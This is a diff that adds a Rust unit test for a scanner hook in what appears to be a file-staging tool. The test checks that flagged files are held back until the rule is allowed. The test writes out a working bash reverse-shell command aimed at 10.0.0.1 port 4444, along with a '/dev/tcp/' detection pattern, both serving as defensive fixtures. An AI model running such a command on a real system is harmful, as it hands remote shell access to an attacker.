@@ -242,3 +242,38 @@ fn host_change_during_the_run_is_a_conflict() {
         "host\n"
     );
 }
+
+/// The scanner hook: a file the scanner flags is held back by rule
+/// `scanner` (ask) unless allowed; others pass.
+#[test]
+fn scanner_findings_hold_a_file_back() {
+    fn scanner(_path: &str, content: &[u8]) -> Vec<String> {
+        if content.windows(9).any(|w| w == b"/dev/tcp/") {
+            vec!["reverse shell".into()]
+        } else {
+            Vec::new()
+        }
+    }
+    let t = setup(&[]);
+    write(
+        &t.upper("bad.sh"),
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
+        0o644,
+    );
+    write(&t.upper("good.sh"), "echo hi\n", 0o644);
+    let set = capture(&t.stage).unwrap();
+    let mut sel = Selection {
+        scanner: Some(scanner),
+        ..Selection::default()
+    };
+    let err = choose(&t.stage, &set, &sel, &mut |_, _| false).unwrap_err();
+    assert!(
+        err.to_string().contains("bad.sh") && err.to_string().contains("--allow scanner"),
+        "{err}"
+    );
+    assert!(!err.to_string().contains("good.sh"), "{err}");
+    sel.allow = vec!["scanner".into()];
+    let (chosen, allowed) = choose(&t.stage, &set, &sel, &mut |_, _| false).unwrap();
+    assert_eq!(chosen.len(), 2);
+    assert_eq!(allowed, vec!["scanner".to_owned()]);
+}
